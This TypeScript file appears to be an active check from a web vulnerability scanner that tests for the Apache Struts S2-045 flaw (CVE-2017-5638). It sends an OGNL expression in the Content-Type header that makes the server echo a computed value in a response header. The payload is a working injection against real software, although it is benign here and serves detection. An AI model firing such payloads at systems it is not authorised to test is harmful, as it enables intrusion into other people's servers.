import { type KnownExploited, proveKnownExploited } from '../../attacks/known-exploited.js';
import { operandsFrom } from '../../attacks/prove.js';
import { withHeader } from '../../attacks/requests.js';
import type { ActiveCheck } from '../../check.js';
import { headerValue } from '../../page/message.js';

export const check: ActiveCheck = {
  id: 'struts-content-type-ognl',
  mode: 'active',
  scope: 'host',
  places: [],
  writes: false,
  technologies: [],
  title: 'Struts evaluates an expression in the content type',
  severity: 'critical',
  aliases: ['CVE-2017-5638', 'CWE-917'],
  cwe: 917,
  fix: 'Update Struts to 2.3.32, 2.5.10.1 or later.',
  references: [
    'https://cwiki.apache.org/confluence/display/WW/S2-045',
    'https://www.cisa.gov/known-exploited-vulnerabilities-catalog',
  ],
  cost: { low: 1, medium: 1, high: 1, insane: 1 },
  attack: (target, prober) => proveKnownExploited(target, prober, known),
};

const answer = "#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']";

/** The message about a wrong content type is built from the content type. A field with a product is added to the answer. */
const known: KnownExploited = {
  affected: {
    purl: /^pkg:maven\/org\.apache\.struts\/struts2-core$/,
    ranges: [
      ['2.3.5', '2.3.32'],
      ['2.5', '2.5.10.1'],
    ],
  },
  attempts: [
    {
      attack: (at, marker) => withHeader(at, 'Content-Type', `%{${expression(marker)}}.multipart/form-data`),
      control: (at, marker) => withHeader(at, 'Content-Type', `(${expression(marker)}).multipart/form-data`),
      shows: ({ response }, marker) => {
        const value = headerValue(response, `x-${marker}`);
        return value?.includes(operandsFrom(marker).product) === true ? `X-${marker}: ${value}` : undefined;
      },
    },
  ],
};

function expression(marker: string): string {
  const { a, b } = operandsFrom(marker);
  return `${answer}.addHeader('X-${marker}',"q"+${a}*${b})`;
}
